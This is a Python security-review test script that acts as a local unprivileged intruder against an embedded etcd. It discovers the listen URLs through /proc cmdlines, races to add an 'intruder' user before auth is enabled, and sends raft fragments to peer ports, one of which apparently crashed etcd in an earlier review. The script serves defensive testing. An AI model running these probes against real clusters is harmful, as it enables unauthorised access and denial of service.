"""Security review 5, M1, as another local user (stdlib only, run as `nobody`): from before `muster serve`
starts until STOP_FILE appears, look for the embedded etcd in /proc/*/cmdline and, as fast as it can, try
what the review's probes did: add a user through every client listener it finds before auth is on, and
POST a raft message to every peer listener. Prints one JSON line of what it saw and what it got.

usage: etcd_intruder.py DATA_DIR STOP_FILE DEADLINE_S
"""

import json
import os
import socket
import sys
import time
import urllib.request
from pathlib import Path

data_dir, stop_file, deadline = Path(sys.argv[1]), Path(sys.argv[2]), time.monotonic() + float(sys.argv[3])
etcd_dir = data_dir / "etcd"
USER_ADD = (b"/v3/auth/user/add", json.dumps({"name": "intruder", "password": "intruder-pw"}).encode())
RAFT = (b"/raft", b"\x08\x08")  # the start of a raft message; the review's whole MsgHeartbeat panicked etcd


def etcd_urls() -> list[str] | None:
    """The listen URLs of the etcd serving DATA_DIR (cmdlines are readable by every user)."""
    for proc in Path("/proc").iterdir():
        try:
            args = (proc / "cmdline").read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        if args and args[0].endswith("etcd") and any(a.startswith(str(etcd_dir)) for a in args):
            return [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("--listen-client-urls", "--listen-peer-urls")]
    return None


def post_tcp(url: str, what: tuple[bytes, bytes]) -> str:
    request = urllib.request.Request(url + what[0].decode(), data=what[1], method="POST")
    try:
        with urllib.request.urlopen(request, timeout=1) as resp:
            return f"HTTP {resp.status}"
    except Exception as exc:  # the outcome is what is reported
        return type(exc).__name__


def post_unix(path: Path, what: tuple[bytes, bytes]) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        try:
            s.connect(str(path))
            s.sendall(b"POST " + what[0] + b" HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(what[1]) + what[1])
            return s.recv(64).split(b"\r\n")[0].decode(errors="replace") or "closed"
        except OSError as exc:
            return type(exc).__name__


seen: dict = {"uid": os.getuid(), "etcd_seen_after_s": None, "urls": [], "data_dir_listed": None, "outcomes": {}}
started = time.monotonic()
while time.monotonic() < deadline and not stop_file.exists():
    urls = etcd_urls()
    if urls is not None and seen["etcd_seen_after_s"] is None:
        seen["etcd_seen_after_s"], seen["urls"] = round(time.monotonic() - started, 3), urls
    try:
        seen["data_dir_listed"] = sorted(os.listdir(data_dir))  # the data dir itself is open to all here
    except OSError as exc:
        seen["data_dir_listed"] = type(exc).__name__
    attempts = {f"{url} {what[0].decode()}": post_tcp(url, what) for url in urls or [] if url.startswith("http")
                for what in (USER_ADD, RAFT)}
    attempts.update({f"{name} {what[0].decode()}": post_unix(etcd_dir / name, what)
                     for name in ("client:0", "peer:0") for what in (USER_ADD, RAFT)})
    for attempt, outcome in attempts.items():
        seen["outcomes"].setdefault(attempt, {}).setdefault(outcome, 0)
        seen["outcomes"][attempt][outcome] += 1
    time.sleep(0.02)
print(json.dumps(seen))
